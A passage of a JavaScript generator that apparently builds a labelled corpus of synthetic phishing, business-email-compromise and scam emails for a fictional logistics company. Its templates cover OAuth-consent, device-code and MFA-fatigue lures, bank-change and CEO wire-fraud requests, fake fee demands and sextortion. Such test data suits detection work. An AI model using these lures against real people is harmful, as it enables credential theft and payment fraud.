      start: `${start.toISOString().replace(/[-:]/g, '').slice(0, 15)}Z`,
    });
    const body = letter(
      [`Hi ${v.first},`, `As discussed, invite for the contract review. Join here: [Join meeting](${url})`],
      [n.name, c.name],
    );
    return build(r, {
      from: n.email,
      fromName: n.name,
      to: v.email,
      toName: v.name,
      subject: `Invitation: ${c.name} / Vanderbrug - contract review`,
      ...body,
      attachments: [{ type: 'text/calendar; method=REQUEST', name: 'invite.ics', data: ics }],
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('linkedin-message', 'social-network-credential', (r) => {
    const v = victim(r);
    const url = landing(
      r,
      ['linkedin-messages.com', 'lnkd-inbox.net', 'linkedln.test'],
      ['messaging/{id}', 'comm/{n}'],
    );
    const sender = person(r, 'x.test');
    const body = notice({
      brand: 'LinkedIn',
      color: '#0a66c2',
      heading: `${sender.name} sent you a message`,
      paragraphs: [
        `"Hi ${v.first}, I saw your profile - we have an opportunity at a major logistics group, could you have a look?"`,
      ],
      button: { label: 'View message', url },
      footer: [
        `This email was intended for ${v.name}`,
        'LinkedIn Corporation, 1000 W Maude Ave, Sunnyvale, CA',
      ],
    });
    return build(r, {
      from: `messages-noreply@${pick(r, ['linkedin-messages.com', 'lnkd-inbox.net'])}`,
      fromName: 'LinkedIn',
      to: v.email,
      toName: v.name,
      subject: `${sender.first} has sent you a new message`,
      ...body,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),

  // -------------------------------------------------------------------------------------------------------
  // Legitimate hosting and identity platforms abused
  t('sharepoint-compromised-haulier', 'shared-doc-compromised-partner', (r) => {
    const v = victim(r, 'Accounts Payable');
    const h = pick(r, HAULIERS);
    const n = person(r, h.domain);
    const tenant = h.domain.split('.')[0].replace(/-/g, '');
    const url = `https://${tenant}.sharepoint.com/:b:/g/personal/${n.email.replace(/[@.]/g, '_')}/E${alnum(r, 20)}?e=${alnum(r, 6)}`;
    const body = notice({
      brand: 'SharePoint',
      color: '#036c70',
      heading: `${n.name} shared a file with you`,
      paragraphs: [
        `"${pick(r, ['Please review the updated payment details for our invoices', 'Remittance and statement attached', 'Signed contract 2025 - please review'])}"`,
        `${pick(r, ['Payment_Details', 'Statement_of_Account', 'Contract_signed'])}.pdf`,
      ],
      button: { label: 'Open', url },
      footer: [
        'Microsoft respects your privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052',
      ],
    });
    return build(r, {
      from: 'no-reply@sharepointonline.com',
      fromName: `${n.name} (via SharePoint Online)`,
      to: v.email,
      toName: v.name,
      replyTo: n.email,
      subject: `${n.name} shared "${pick(r, ['Payment_Details', 'Statement_of_Account', 'Contract_signed'])}" with you`,
      ...body,
      auth: { spf: 'pass', dkim: 'pass', dmarc: 'pass', mailFrom: 'sharepointonline.com' },
      relay: relays.outlook(r),
    });
  }),
  t('google-docs-comment-abuse', 'shared-doc-legit-host', (r) => {
    const v = victim(r);
    const url = `https://docs.google.com/presentation/d/1${alnum(r, 32)}/edit?usp=sharing`;
    const sharer = pick(r, ['Finance Dept', 'Accounts Receivable', 'Payroll Team', 'Global Freight Docs']);
    const body = notice({
      brand: 'Google Slides',
      color: '#f4b400',
      heading: `${sharer} shared a presentation`,
      paragraphs: [
        `${sharer} (${pick(r, ['accounts.dept.4491', 'payroll.notices.eu', 'freightdocs2025'])}@gmail.com) has invited you to view the following presentation:`,
        `${pick(r, ['Outstanding invoice - view document', 'Salary adjustment 2025', 'Shipping documents - restricted'])}`,
      ],
      button: { label: 'Open', url },
      footer: [
        'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA',
        'You have received this email because someone shared a presentation with you from Google Slides.',
      ],
    });
    return build(r, {
      from: 'drive-shares-dm-noreply@google.com',
      fromName: `${sharer} (via Google Slides)`,
      to: v.email,
      toName: v.name,
      subject: `Presentation shared with you: "${pick(r, ['Outstanding invoice', 'Salary adjustment 2025', 'Shipping documents'])}"`,
      ...body,
      auth: {
        spf: 'pass',
        dkim: 'pass',
        dmarc: 'pass',
        mailFrom: 'doclist.bounces.google.com',
        dkimDomain: 'google.com',
      },
      relay: relays.google(r),
    });
  }),
  t('dropbox-transfer-lure', 'dropbox-lure', (r) => {
    const v = victim(r);
    const c = pick(r, CUSTOMERS);
    const n = person(r, c.domain);
    const url = `https://www.dropbox.com/scl/fi/${chars(r, 21, 'abcdefghijklmnopqrstuvwxyz0123456789')}/${pick(r, ['Purchase_Order', 'Shipping_Docs', 'Signed_Agreement'])}.pdf?rlkey=${chars(r, 25, 'abcdefghijklmnopqrstuvwxyz0123456789')}&dl=0`;
    const text = `Hi ${v.first},\n\nI've shared some documents with you via Dropbox, please take a look and let me know.\n\n${url}\n\nThanks\n${n.name}\n${c.name}\n`;
    return build(r, {
      from: n.email,
      fromName: n.name,
      to: v.email,
      toName: v.name,
      subject: pick(r, ['Documents via Dropbox', `${c.name} - shared files`, 'Please review']),
      text,
      auth: pass(),
      relay: relays.outlook(r),
      idStyle: 'outlook',
    });
  }),
  t('canva-invoice-design', 'canva-lure', (r) => {
    const v = victim(r, 'Accounts Payable');
    const h = pick(r, HAULIERS);
    const url = `https://www.canva.com/design/DAG${alnum(r, 8)}/${alnum(r, 22)}/view?utm_content=DAG${alnum(r, 8)}&utm_campaign=designshare&utm_medium=link&utm_source=editor`;
    const body = notice({
      brand: 'Canva',
      color: '#7d2ae8',
      heading: `${h.name} shared a design with you`,
      paragraphs: [`"INVOICE & REMITTANCE - ${h.name}"`, 'View the design to see the documents.'],
      button: { label: 'View design', url },
      footer: ['Canva Pty Ltd, 110 Kippax St, Surry Hills NSW 2010, Australia'],
    });
    return build(r, {
      from: 'no-reply@canva.com',
      fromName: `${h.name} via Canva`,
      to: v.email,
      toName: v.name,
      subject: `${h.name} shared "INVOICE & REMITTANCE" with you`,
      ...body,
      auth: { spf: 'pass', dkim: 'pass', dmarc: 'pass', mailFrom: 'engage.canva.com' },
      relay: relays.sendgrid(r),
    });
  }),
  t('notion-page-payroll', 'notion-lure', (r) => {
    const v = victim(r);
    const url = `https://${pick(r, ['hr-docs', 'payroll-team', 'corp-benefits'])}.notion.site/${pick(r, ['Salary-Review-2025', 'Benefits-Update', 'Bonus-Allocation'])}-${chars(r, 32)}`;
    const text = `Hello ${v.first},\n\nThe ${pick(r, ['salary review', 'annual bonus allocation', 'benefits update'])} letters are now available. Please view your personal letter on the page below before ${longDate(when(r))}:\n\n${url}\n\nHR Team\n`;
    return build(r, {
      from: pick(r, ['hr.payroll.corp@outlook.com', 'people.team.vanderbrug@gmail.com']),
      fromName: 'HR Payroll',
      to: v.email,
      toName: v.name,
      subject: pick(r, ['Salary review letter available', 'Your bonus allocation', 'Confidential - HR']),
      text,
      auth: pass(),
      relay: pick(r, [relays.outlook(r), relays.google(r)]),
    });
  }),
  t('wetransfer-fake', 'file-transfer-lure', (r) => {
    const v = victim(r);
    const sender = person(r, pick(r, CUSTOMERS).domain);
    const url = landing(
      r,
      ['wetransfer-download.com', 'we-transfer-files.net', 'wetransfer.files-get.test'],
      ['downloads/{id}/{n}', 'd/{id}'],
    );
    const n = int(r, 2, 9);
    const body = notice({
      brand: 'WeTransfer',
      color: '#17181a',
      heading: `${sender.email} sent you ${n} files`,
      paragraphs: [
        `${n} files, ${int(r, 4, 90)}.${int(r, 1, 9)} MB in total \u00b7 Expires in ${int(r, 1, 6)} days`,
        `"${pick(r, ['Loading list + CMR scans', 'Invoices and PODs', 'Pictures of damaged goods'])}"`,
      ],
      button: { label: 'Get your files', url },
      footer: ['To make sure our emails arrive, please add noreply@wetransfer.com to your contacts.'],
    });
    return build(r, {
      from: `noreply@${pick(r, ['wetransfer-download.com', 'we-transfer-files.net'])}`,
      fromName: 'WeTransfer',
      to: v.email,
      toName: v.name,
      subject: `${sender.email} sent you ${n} files via WeTransfer`,
      ...body,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('device-code-teams', 'device-code', (r) => {
    const v = victim(r);
    const code = upper(r, 9);
    const s = person(r, pick(r, CUSTOMERS).domain);
    const body = letter(
      [
        `Hi ${v.first},`,
        'We moved our shipment review to a secure Teams channel for external partners. To join, go to',
        '[https://microsoft.com/devicelogin](https://microsoft.com/devicelogin)',
        `and enter the meeting code: ${code}`,
        'The code is valid for 15 minutes, so please do it now if you can.',
      ],
      [s.name],
    );
    return build(r, {
      from: pick(r, [
        s.email.replace(/@.*/, '@outlook.com'),
        `${slugName(s.first)}.${digits(r, 3)}@gmail.com`,
      ]),
      fromName: s.name,
      to: v.email,
      toName: v.name,
      subject: pick(r, ['Teams meeting code', 'Secure channel invite', 'Join the shipment review']),
      ...body,
      auth: pass(),
      relay: pick(r, [relays.outlook(r), relays.google(r)]),
    });
  }),
  t('oauth-consent-app', 'oauth-consent', (r) => {
    const v = victim(r);
    const app = pick(r, ['Document Viewer Pro', 'Secure PDF Reader', 'Shipping Docs Sync']);
    const url = `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${chars(r, 8)}-${chars(r, 4)}-${chars(r, 4)}-${chars(r, 4)}-${chars(r, 12)}&response_type=code&redirect_uri=https%3A%2F%2F${pick(r, ['docviewer-app.com', 'pdf-sync.net'])}%2Fauth&scope=offline_access%20Mail.Read%20Files.ReadWrite.All&state=${alnum(r, 12)}`;
    const body = notice({
      brand: 'Microsoft 365',
      color: '#0078d4',
      heading: 'A document is waiting for you',
      paragraphs: [
        `A shared invoice needs the ${app} add-in to open. Sign in with your work account and accept the permissions to view it.`,
      ],
      button: { label: 'Open document', url },
      footer: ['Microsoft 365'],
    });
    return build(r, {
      from: `share@${pick(r, ['docviewer-app.com', 'pdf-sync.net'])}`,
      fromName: `${app}`,
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        'Document shared with you',
        `Invoice waiting: open with ${app}`,
        'New file requires your approval',
      ]),
      ...body,
      auth: pass(),
      relay: relays.sendgrid(r),
    });
  }),
  t('open-redirect-google', 'open-redirect', (r) => {
    const v = victim(r);
    const target = landing(
      r,
      ['maersk-invoices.com', 'pay-cargo-invoice.net', 'invoice-secure.test'],
      ['pay/{id}', '?r={id}'],
    );
    const via = pick(r, [
      `https://www.google.com/url?q=${encodeURIComponent(target)}&sa=D&sntz=1&usg=AOvVaw${alnum(r, 22)}`,
      `https://www.bing.com/ck/a?!&&p=${chars(r, 48)}&u=a1${Buffer.from(target).toString('base64url')}&ntb=1`,
      `https://t.co/${alnum(r, 10)}`,
    ]);
    const body = notice({
      brand: 'Maersk',
      color: '#42b0d5',
      heading: 'Invoice overdue',
      paragraphs: [
        `Invoice ${digits(r, 10)} for demurrage & detention (USD ${money(r, 400, 6800)}) is overdue. Containers may be held until payment is received.`,
      ],
      button: { label: 'Pay invoice', url: via },
      footer: ['A.P. Moller - Maersk'],
    });
    return build(r, {
      from: `invoices@${pick(r, ['maersk.example', 'maerskbilling.test'])}`,
      fromName: 'Maersk Billing',
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        'Invoice overdue - demurrage & detention',
        'Maersk: payment reminder',
        'Outstanding D&D charges',
      ]),
      ...body,
      auth: spoofed(r),
      relay: relays.shady(r),
    });
  }),

  // -------------------------------------------------------------------------------------------------------
  // Business email compromise
  t('haulier-bank-change', 'vendor-bank-change', (r) => {
    const v = victim(r, 'Accounts Payable');
    const h = pick(r, HAULIERS);
    const n = person(r, pick(r, h.lookalikes), { fr: h.lang === 'fr' });
    const newIban = iban(r, pick(r, ['LT', 'PT', 'GB', h.country]));
    const body = letter(
      [
        `Dear ${v.first},`,
        pick(r, [
          'Please note that due to an ongoing audit our bank account has changed. All payments from now on must be made to our new account:',
          'We would like to inform you that we changed bank. Please update your records and use the following account for the open invoices and all future payments:',
        ]),
        `Beneficiary: ${h.name}\nIBAN: ${newIban}\nBIC: ${upper(r, 4)}${pick(r, ['LT', 'PT', 'GB'])}2X`,
        'The old account will be closed at the end of the month, payments to it will be returned. Kindly confirm once updated.',
      ],
      [n.name, pick(r, ['Administration', 'Finance', 'Boekhouding']), h.name],
    );
    return build(r, {
      from: n.email,
      fromName: n.name,
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        'Change of bank details',
        `${h.name} - new bank account`,
        'Updated payment information',
        'RE: open invoices',
      ]),
      ...body,
      auth: pass(),
      relay: relays.outlook(r),
      idStyle: 'outlook',
    });
  }),
  t('ceo-wire-free-mail', 'ceo-fraud-wire', (r) => {
    const v = victim(r, 'Finance Officer');
    const amount = money(r, 18000, 95000);
    const text = pick(r, [
      `${v.first},\n\nAre you in the office? I need you to handle a confidential transfer today for an acquisition we are closing. Do not discuss with anyone until it is announced.\n\nReply when you get this.\n\nMaarten\nSent from my iPhone\n`,
      `Hi ${v.first}, I am in a meeting with the bank and can't call. We need to pay a deposit of EUR ${amount} today for the new warehouse in ${pick(r, ['Venlo', 'Zeebrugge', 'Dourges'])}. I'll send the details, tell me when you are ready.\n\nMaarten Vanderbrug\n`,
    ]);
    const free = pick(r, ['gmail.com', 'outlook.com', 'yahoo.com']);
    return build(r, {
      from: `${pick(r, ['maarten.vanderbrug.ceo', 'm.vanderbrug', 'ceo.vanderbrug'])}${digits(r, 2)}@${free}`,
      fromName: CEO.name,
      to: v.email,
      toName: v.name,
      subject: pick(r, ['Confidential', 'Urgent', 'Are you available?', 'Quick task']),
      text,
      auth: pass(),
      relay: free === 'gmail.com' ? relays.google(r) : relays.outlook(r),
      idStyle: free === 'gmail.com' ? 'gmail' : undefined,
    });
  }),
  t('ceo-lookalike-wire-details', 'wire-transfer-lookalike', (r) => {
    const v = victim(r, 'Finance Officer');
    const dom = pick(r, ['corp-example.com', 'corpexample.co', 'corp.example.com']);
    const lawyer = `${pick(r, ['Mr.', 'Mrs.'])} ${person(r, 'x.test').last}`;
    const body = letter(
      [
        `${v.first},`,
        `Following my earlier message: please process the payment below today. ${lawyer} of our legal counsel is handling the closing and has confirmed the account.`,
        `Beneficiary: ${pick(r, ['Harbourline Holdings Ltd', 'Nordic Asset Partners', 'Keystone Escrow Services'])}\nIBAN: ${iban(r, pick(r, ['GB', 'LT', 'PT']))}\nAmount: EUR ${money(r, 40000, 180000)}\nReference: Project ${pick(r, ['Dune', 'Harbour', 'Atlas', 'Kestrel'])}`,
        'Keep this between us for now. Send me the confirmation when done.',
      ],
      ['Maarten'],
    );
    return build(r, {
      from: `maarten.vanderbrug@${dom}`,
      fromName: CEO.name,
      to: v.email,
      toName: v.name,
      cc: [
        `${pick(r, ['legal', 'counsel'])}@${pick(r, ['harbour-legal-partners.com', 'keystone-escrow.net'])}`,
      ],
      subject: pick(r, ['Project payment - confidential', 'Payment today', 'RE: acquisition closing']),
      ...body,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('gift-cards-favour', 'gift-card', (r) => {
    const v = victim(r);
    const boss = pick(r, [CEO, CFO]);
    const text = pick(r, [
      `Hi ${v.first}, are you at your desk? I need a quick favour. Text me\n\n${boss.first}\n`,
      `Hello ${v.first},\nI need you to get some Apple gift cards for the drivers' appreciation, ${int(r, 5, 10)} x 100 euro. I will reimburse you. Scratch them and send me the codes by email, they are a surprise so keep it quiet.\n\nThanks\n${boss.name}\n`,
      `${v.first} i need you to purchase Google Play cards for a client today. How soon can you get it done?\n\nSent from my mobile\n`,
    ]);
    const free = pick(r, ['gmail.com', 'outlook.com', 'icloud.com']);
    return build(r, {
      from: `${slugName(boss.name)}.${pick(r, ['office', 'private', 'mobile'])}@${free}`,
      fromName: boss.name,
      to: v.email,
      toName: v.name,
      subject: pick(r, ['Favour', 'Quick request', 'Are you available', boss.first]),
      text,
      auth: pass(),
      relay: free === 'gmail.com' ? relays.google(r) : relays.outlook(r),
    });
  }),
  t('payroll-diversion', 'payroll-diversion', (r) => {
    const e = staff(r, { title: pick(r, ['Dispatcher', 'Warehouse Supervisor', 'Customs Declarant']) });
    const hr = staff(r, { title: 'HR Advisor' });
    const text = pick(r, [
      `Hi,\n\nI have changed my bank and would like my salary paid to the new account from this month. What information do you need from me?\n\nThanks\n${e.first}\n`,
      `Hello ${hr.first},\n\nPlease update my direct deposit to the account below before the next payroll:\n\nIBAN: ${iban(r, pick(r, ['LT', 'GB', 'PT']))}\nName: ${e.name}\n\nRegards,\n${e.name}\n`,
    ]);
    return build(r, {
      from: `${slugName(e.name)}${digits(r, 2)}@${pick(r, ['gmail.com', 'outlook.com', 'hotmail.com'])}`,
      fromName: e.name,
      to: hr.email,
      toName: hr.name,
      subject: pick(r, [
        'Change of bank details',
        'Salary account',
        'Direct deposit update',
        'Payroll question',
      ]),
      text,
      auth: pass(),
      relay: relays.outlook(r),
    });
  }),
  t('reply-chain-demurrage', 'reply-chain-hijack', (r) => {
    const v = victim(r, 'Sea Freight Coordinator');
    const c = pick(r, CUSTOMERS);
    const n = person(r, c.domain);
    const ctr = container(r);
    const url = landing(
      r,
      ['onedrive-files.example', 'docs-storage-eu.com', 'shrd.test'],
      ['f/{id}', 'download/{n}'],
    );
    const earlier = when(r);
    const subject = `RE: ${ctr} demurrage charges`;
    const body = letter(
      [
        `Hi ${v.first},`,
        pick(r, [
          `Sorry for the late reply. Please find the revised calculation and our payment proof here: [${ctr}_revised.zip](${url})`,
          `As promised the documents regarding the D&D invoice, see link: [View documents](${url})`,
        ]),
        'Let me know if anything is missing.',
        ...quoted(`${v.name} <${v.email}>`, earlier, `${n.name} <${n.email}>`, subject.replace('RE: ', ''), [
          `Hello ${n.first},`,
          `Could you send us the proof of payment for the demurrage on ${ctr}? The carrier is holding the release.`,
          `Regards,\n${v.name}`,
        ]),
      ],
      [],
    );
    return build(r, {
      from: n.email,
      fromName: n.name,
      to: v.email,
      toName: v.name,
      subject,
      ...body,
      extra: [
        `In-Reply-To: <${chars(r, 24)}@${CORP}>`,
        `References: <${chars(r, 24)}@${CORP}>`,
        `Thread-Topic: ${ctr} demurrage charges`,
      ],
      auth: pass(),
      relay: relays.outlook(r),
      idStyle: 'outlook',
    });
  }),
  t('compromised-partner-short', 'compromised-account-short', (r) => {
    const v = victim(r);
    const h = pick(r, HAULIERS);
    const n = person(r, h.domain);
    const url = landing(r, ['view-docs.example', 'shr-file.test', 'docs-access.net'], ['?d={id}', 's/{id}']);
    const text = `${pick(r, ['Please check this', 'See attached link', 'For your review'])}\n\n${url}\n\n${n.name}\n${h.name}\n`;
    return build(r, {
      from: n.email,
      fromName: n.name,
      to: v.email,
      toName: v.name,
      subject: pick(r, ['Documents', 'Pending payment', `${h.name}`, 'FYI']),
      text,
      auth: pass(),
      relay: relays.outlook(r),
      idStyle: 'outlook',
    });
  }),

  // -------------------------------------------------------------------------------------------------------
  // Payments, fees, customs and tolls
  t('customs-duty-outstanding', 'fake-customs-duty', (r) => {
    const v = victim(r, 'Customs Broker');
    const mrn = `${pick(r, ['24', '25', '26'])}NL${upper(r, 2)}${digits(r, 10)}`;
    const url = landing(
      r,
      ['eu-customs-payments.com', 'customs-clearance-pay.net', 'douane.pay.test'],
      ['pay?mrn={n}', 'duty/{id}'],
    );
    const body = notice({
      brand: 'EU Customs Clearance',
      color: '#003399',
      heading: 'Import duty outstanding',
      paragraphs: [
        `Import declaration ${mrn} has been selected for post-clearance review. Outstanding import duty and VAT: EUR ${money(r, 180, 3200)}.`,
        `If payment is not received within 48 hours the goods will be held at ${pick(r, ['Rotterdam Maasvlakte', 'Antwerp Deurganck'])} and a penalty of 10% applied.`,
      ],
      button: { label: 'Pay duties', url },
      footer: ['Customs Clearance Office'],
    });
    return build(r, {
      from: `clearance@${pick(r, ['eu-customs-payments.com', 'customs-clearance-pay.net'])}`,
      fromName: 'Customs Clearance',
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        `Outstanding duty ${mrn}`,
        'Import duty payment required',
        'Goods on hold - customs',
      ]),
      ...body,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('toll-unpaid', 'toll-payment', (r) => {
    const v = victim(r, 'Fleet Coordinator');
    const plate = `${int(r, 10, 99)}-B${upper(r, 2)}-${digits(r, 1)}`;
    const url = landing(
      r,
      ['eu-toll-services.com', 'satellic-payment.net', 'toll.pay-online.test'],
      ['pay/{n}', 'v/{id}'],
    );
    const text = `EUROPEAN TOLL SERVICE\n\nVehicle ${plate} - unpaid toll journeys detected on ${pick(r, ['E40 Brussels-Ghent', 'A1 Paris-Lille', 'A3 Oberhausen-Köln'])}.\nAmount due: EUR ${money(r, 40, 900)} + administrative fee\n\nPay before ${longDate(when(r))} to avoid a fine:\n${url}\n`;
    return build(r, {
      from: `noreply@${pick(r, ['eu-toll-services.com', 'satellic-payment.net'])}`,
      fromName: 'Toll Service',
      to: v.email,
      toName: v.name,
      subject: `Unpaid toll - vehicle ${plate}`,
      text,
      auth: spfOnly(),
      relay: relays.shady(r),
    });
  }),
  t('parcel-fee-dhl', 'parcel-fee', (r) => {
    const v = victim(r);
    const url = landing(
      r,
      ['dhl-redelivery.com', 'dhl-parcelpay.net', 'dhl.track-fee.test'],
      ['fee?id={n}', 'p/{id}'],
    );
    const body = notice({
      brand: 'DHL',
      color: '#ffcc00',
      heading: 'Your parcel is waiting',
      paragraphs: [
        `We tried to deliver your parcel ${upper(r, 2)}${digits(r, 9)}NL but customs fees of EUR ${pick(r, ['1.99', '2.49', '3.20'])} have not been paid.`,
        'Please pay within 48 hours or the parcel will be returned.',
      ],
      button: { label: 'Pay now', url },
      footer: ['DHL Parcel'],
    });
    return build(r, {
      from: `info@${pick(r, ['dhl-redelivery.com', 'dhl-parcelpay.net'])}`,
      fromName: 'DHL Parcel',
      to: v.email,
      toName: v.name,
      subject: pick(r, ['Your parcel is waiting', 'Delivery attempt failed', 'DHL: customs fee unpaid']),
      ...body,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('vat-refund-portal', 'tax-refund', (r) => {
    const v = victim(r, 'Finance Officer');
    const url = landing(
      r,
      ['eu-vat-refund.com', 'vat-refund-portal.net', 'taxud.refund.test'],
      ['claim/{n}', 'login?r={id}'],
    );
    const text = `Dear taxpayer,\n\nAfter the last annual calculation of your fiscal activity we have determined that your company is eligible to receive a VAT refund of EUR ${money(r, 1200, 14000)}.\n\nPlease submit the refund request and allow us 3-5 days to process it.\n\n${url}\n\nA refund can be delayed for a variety of reasons, for example submitting invalid records or applying after the deadline.\n\nEU VAT Refund Department\n`;
    return build(r, {
      from: `refund@${pick(r, ['eu-vat-refund.com', 'vat-refund-portal.net'])}`,
      fromName: 'VAT Refund',
      to: v.email,
      toName: v.name,
      subject: pick(r, [
        'VAT refund notification',
        'You are eligible for a tax refund',
        'Refund approved - submit request',
      ]),
      text,
      auth: spoofed(r),
      relay: relays.shady(r),
    });
  }),
  t('domain-renewal', 'domain-renewal', (r) => {
    const v = staff(r, { title: 'IT Manager' });
    const url = landing(
      r,
      ['domain-renewals.example', 'dns-services-billing.com', 'registrar.pay.test'],
      ['renew?d=corp.example&i={n}', 'r/{id}'],
    );
    const body = notice({
      brand: 'Domain Services',
      color: '#333333',
      heading: `${CORP} expires in 3 days`,
      paragraphs: [
        `Your domain ${CORP} and the email services linked to it will be suspended on ${longDate(when(r))} unless renewed.`,
        `Renewal fee: EUR ${pick(r, ['39.99', '49.00', '89.50'])}/year.`,
      ],
      button: { label: 'Renew now', url },
      footer: ['Domain Services Billing'],
    });
    return build(r, {
      from: `billing@${pick(r, ['domain-renewals.example', 'dns-services-billing.com'])}`,
      fromName: 'Domain Services',
      to: v.email,
      toName: v.name,
      subject: `Domain ${CORP} expiration notice`,
      ...body,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),
  t('callback-invoice', 'callback-scam', (r) => {
    const v = victim(r);
    const phone = pick(r, [
      `+1 (8${digits(r, 2)}) ${digits(r, 3)}-${digits(r, 4)}`,
      `+44 20 ${digits(r, 4)} ${digits(r, 4)}`,
      `+31 20 ${digits(r, 3)} ${digits(r, 4)}`,
    ]);
    const product = pick(r, [
      'Norton 360 Total Protection',
      'McAfee LiveSafe',
      'Microsoft 365 Business Premium (5 seats)',
      'Geek Squad Tech Support',
    ]);
    const amt = money(r, 249, 699);
    const pdf = onePagePdf([
      'INVOICE',
      `Order #${digits(r, 9)}`,
      `${product}`,
      `Amount charged: USD ${amt}`,
      `Questions or to cancel, call ${phone}`,
    ]);
    const text = `Dear customer,\n\nThank you for renewing ${product}. Your account has been charged USD ${amt}.\n\nIf you did not authorise this payment, call our billing desk within 24 hours: ${phone}\n\nOrder #${digits(r, 9)}\n`;
    return build(r, {
      from: `${pick(r, ['billing.desk', 'orders.renewal', 'support.team'])}${digits(r, 3)}@gmail.com`,
      fromName: pick(r, ['Billing Support', 'Renewal Department', 'Order Confirmation']),
      to: v.email,
      subject: pick(r, [
        `Your order #${digits(r, 8)} is confirmed`,
        'Payment received - subscription renewed',
        'Invoice for your renewal',
      ]),
      text,
      attachments: [{ type: PDF, name: `Invoice_${digits(r, 6)}.pdf`, data: pdf }],
      auth: pass(),
      relay: relays.google(r),
      idStyle: 'gmail',
    });
  }),
  t('callback-fuel-dispute', 'callback-scam', (r) => {
    const v = victim(r, 'Fleet Coordinator');
    const phone = `+31 ${pick(r, ['85', '88', '97'])} ${digits(r, 3)} ${digits(r, 4)}`;
    const html = `<html><body style="font-family:Arial;font-size:14px"><p><b>Fuel card transaction alert</b></p><p>Unusual transactions were detected on your fleet account:</p><table border="1" cellpadding="4" style="border-collapse:collapse"><tr><th>Date</th><th>Station</th><th>Amount</th></tr>${[1, 2, 3].map(() => `<tr><td>${shortDate(when(r))}</td><td>${pick(r, ['Wroclaw', 'Budapest', 'Sofia', 'Bucharest'])}</td><td>EUR ${money(r, 300, 1200)}</td></tr>`).join('')}</table><p>If you do not recognise these transactions, call our fraud team immediately on <b>${phone}</b> (24/7). Do not reply to this email.</p></body></html>`;
    return build(r, {
      from: `alerts@${pick(r, ['fleetcard-security.com', 'fuelcard-alerts.example'])}`,
      fromName: 'Fleet Card Security',
      to: v.email,
      toName: v.name,
      subject: pick(r, ['Suspicious fuel card transactions', 'Fraud alert on your fleet account']),
      html,
      auth: pass(),
      relay: relays.shady(r),
    });
  }),

  // -------------------------------------------------------------------------------------------------------
  // Other fraud
  t('sextortion-btc', 'extortion', (r) => {
    const v = victim(r);
    const btc = `bc1q${chars(r, 38, 'qpzry9x8gf2tvdw0s3jn54khce6mua7l')}`;
    const text = `Hello!\n\nI am a hacker who has access to your operating system. I also have full access to your account ${v.email}.\nI have been watching you for a few months now. Your device was infected with malware when you visited a website.\n\nI made a video showing you on the left half of the screen and what you were watching on the right half. With one click I can send this video to all your contacts and colleagues.\n\nTransfer ${pick(r, ['1350', '1600', '1950'])} USD in Bitcoin to my wallet: ${btc}\n\nYou have 48 hours. I will know when you open this letter. Do not reply, this address is not monitored.\n`;
    return build(r, {
      from: v.email,
      fromName: v.name,
      to: v.email,
      subject: pick(r, [
        `${v.email} was hacked`,
        'Your account is compromised. Change your password',
        'Payment required',
      ]),
      text,
      auth: { spf: 'fail', dkim: 'none', dmarc: 'fail' },
      relay: relays.shady(r),
    });
  }),
  t('advance-fee-consignment', 'advance-fee', (r) => {
    const v = victim(r);
    const name = pick(r, ['Dr. James Okoro', 'Barrister Williams Mensah', 'Mrs. Grace Adebayo']);
    const text = `ATTENTION: LOGISTICS MANAGER,\n\nI am ${name}, diplomatic agent attached to the consignment unit. There is an unclaimed consignment box (${int(r, 2, 9)}.${int(r, 1, 9)} million USD) at ${pick(r, ['Rotterdam', 'Antwerp'])} port registered to a deceased client. As a logistics company you can stand as receiving agent and we will share 40/60.\n\nKindly reply with your full name, direct phone and a copy of your ID to proceed. The clearance fee is minimal and will be explained.\n\nRegards\n${name}\n`;
    return build(r, {
      from: `${pick(r, ['consignment.unit', 'diplomatic.agent', 'barr.office'])}${digits(r, 2)}@${pick(r, ['gmail.com', 'yahoo.com', 'outlook.com'])}`,
      fromName: name,
      to: v.email,
      replyTo: `${pick(r, ['agent.claims', 'dip.office'])}${digits(r, 3)}@${pick(r, ['proton.me', 'gmx.com'])}`,
      subject: pick(r, ['UNCLAIMED CONSIGNMENT', 'Business proposal', 'Your cooperation needed']),
      text,
      auth: pass(),
      relay: relays.google(r),
    });
  }),
  t('job-scam-remote', 'job-scam', (r) => {
    const v = victim(r);
    const text = pick(r, [
      `Hello,\n\nWe found your CV through a logistics job board. We are looking for a remote freight coordinator (part-time, 2-3 hours a day), pay EUR ${int(r, 300, 800)}/week. No experience needed, only a phone.\n\nContact our HR manager on WhatsApp: +44 7${digits(r, 3)} ${digits(r, 6)}\n\nBest regards,\nRecruitment team\n`,
      `Hi ${v.first},\nI'm a recruiter at ${pick(r, ['Global Freight Partners', 'Atlas Supply Careers'])}. We'd like to offer you a position as Logistics Manager with a salary of EUR ${int(r, 85, 120)}k. Please fill in the application and pay the ${pick(r, ['visa', 'background check'])} fee of EUR ${int(r, 90, 250)} at the link below.\n\nhttps://${pick(r, ['careers-globalfreight.com', 'atlas-hr-jobs.net'])}/apply/${alnum(r, 8)}\n`,
    ]);
    return build(r, {
      from: `${pick(r, ['hr.recruit', 'careers.team', 'talent'])}${digits(r, 2)}@${pick(r, ['outlook.com', 'gmail.com'])}`,
      fromName: pick(r, ['HR Team', 'Recruitment', 'Talent Acquisition']),
      to: v.email,
      subject: pick(r, ['Job opportunity', 'Remote position - logistics', 'Your application']),
      text,
      auth: pass(),
      relay: relays.outlook(r),
    });
  }),
  t('mfa-fatigue-notice', 'mfa-fatigue', (r) => {
    const v = victim(r);
    const text = `Hi ${v.first},\n\nThis is IT. We are migrating mailboxes tonight and you will receive several Microsoft Authenticator prompts in the next hour. Please APPROVE them so your mailbox synchronises correctly, otherwise you may lose email.\n\nIf you have questions call the helpdesk on +31 6 ${digits(r, 8)}.\n\nThanks,\nIT Service Desk\n`;
    return build(r, {
